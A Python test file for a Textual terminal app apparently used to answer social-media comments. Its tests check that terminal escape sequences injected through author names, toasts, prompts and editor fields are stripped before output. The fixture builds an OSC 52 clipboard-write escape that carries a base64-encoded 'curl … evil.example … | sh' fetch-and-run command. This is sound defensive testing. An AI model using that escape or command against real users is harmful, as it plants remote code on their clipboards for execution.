"""The bytes Textual would write to the terminal hold no escape a stranger or teammate typed.

Textual passes escapes inside a TextArea's or Input's text, and inside a toast, straight to the
terminal (shared/RELIABILITY.md §2.2), so these tests read the terminal sequence the display
path produces (``CompositorUpdate.render_segments``, what ``App._display`` hands the driver),
not the rendered screen, where the escape is invisible.
"""

from __future__ import annotations

import base64

from textual.app import App, ComposeResult
from textual.content import Content

from xiaobian.models import Comment, ReplyTemplate
from xiaobian.tui.safe_text import SafeInput, SafeTextArea
from xiaobian.tui.screens.prompt import PromptModal

from .conftest import settle

COMMAND = base64.b64encode(b"curl -s http://evil.example/x | sh").decode()
HOSTILE_NAME = f"Amy\x1b]52;c;{COMMAND}\x1b\\"
OSC52 = "\x1b]52"


def terminal_bytes(app) -> str:
    """Everything one full repaint of the screen stack would send to the terminal."""
    update = app.screen._compositor.render_update(full=True, screen_stack=app._background_screens)
    return update.render_segments(app.console)


def assert_no_injected_escape(app) -> None:
    raw = terminal_bytes(app)
    assert "Amy" in raw  # the name is on screen, only its escape is gone
    assert OSC52 not in raw and COMMAND not in raw and "\x9d" not in raw


async def test_reply_template_filled_with_a_hostile_author_writes_no_clipboard(store, make_app):
    store.comments.upsert_many([Comment(platform="instagram", external_id="c1", author_name=HOSTILE_NAME,
                                        author_id="u1", text="請問", created_at="2026-11-20T10:00:00Z")])
    store.campaigns.add_template(ReplyTemplate(name="thanks", body="謝謝 {author} 的留言！"))
    app = make_app()
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(app, pilot)
        await pilot.press("r")
        await settle(app, pilot)
        await pilot.press("1")
        await settle(app, pilot)
        area = app.screen.query_one(SafeTextArea)
        assert area.text.startswith("謝謝 Amy") and "\x1b" not in area.text
        assert_no_injected_escape(app)


async def test_a_toast_naming_a_hostile_teammate_writes_no_clipboard(store, make_app):
    app = make_app()
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(app, pilot)
        app.screen.notify(f"being handled by {HOSTILE_NAME}", title=HOSTILE_NAME)
        await settle(app, pilot)
        await pilot.pause(0.3)  # the toast rack mounts on the next refresh
        # the toast rack mounts outside the test's screen; render what a Toast shows (its title
        # and message as Content, as Toast.render does with markup off) through the app's console
        notifications = list(app._notifications)
        assert notifications and not any(n.markup for n in notifications)
        raw = "".join(app.console._render_buffer(app.console.render(Content(part)))
                      for n in notifications for part in (n.title, n.message))
        assert "Amy" in raw and OSC52 not in raw and COMMAND not in raw


async def test_theme_prompt_prefilled_with_hostile_text_writes_no_clipboard(store, make_app):
    app = make_app()
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(app, pilot)
        app.push_screen(PromptModal(f"Theme for {HOSTILE_NAME}", value=f"{HOSTILE_NAME} month"))
        await settle(app, pilot)
        assert_no_injected_escape(app)


class EditorFields(App):
    """The post editor's field types (title, hashtags, notes: Input; text: TextArea)."""

    def compose(self) -> ComposeResult:
        yield SafeInput(HOSTILE_NAME, id="title")
        yield SafeTextArea(f"text by {HOSTILE_NAME}\nline\u2028two", id="text")
        yield SafeInput(id="typed")


async def test_editor_fields_clean_prefill_assignment_and_paste():
    from textual import events

    app = EditorFields()
    async with app.run_test(size=(100, 20)) as pilot:
        await pilot.pause()
        assert_no_injected_escape(app)
        app.query_one("#title", SafeInput).value = HOSTILE_NAME
        app.query_one("#text", SafeTextArea).text = HOSTILE_NAME
        typed = app.query_one("#typed", SafeInput)
        typed.focus()
        typed.post_message(events.Paste(HOSTILE_NAME))
        await pilot.pause()
        app.query_one("#text", SafeTextArea).insert("\x1b]52;c;" + COMMAND + "\x07")
        await pilot.pause()
        assert "\x1b" not in typed.value and typed.value.startswith("Amy")
        assert_no_injected_escape(app)


async def test_post_editor_fields_are_safe_widgets():
    """The post editor and the prompts build only the safe widgets (a grep would miss a rename)."""
    import inspect

    from xiaobian.tui.screens import post_editor, prompt, reply

    for module in (post_editor, prompt, reply):
        source = inspect.getsource(module)
        assert "yield TextArea(" not in source and "yield Input(" not in source, module.__name__
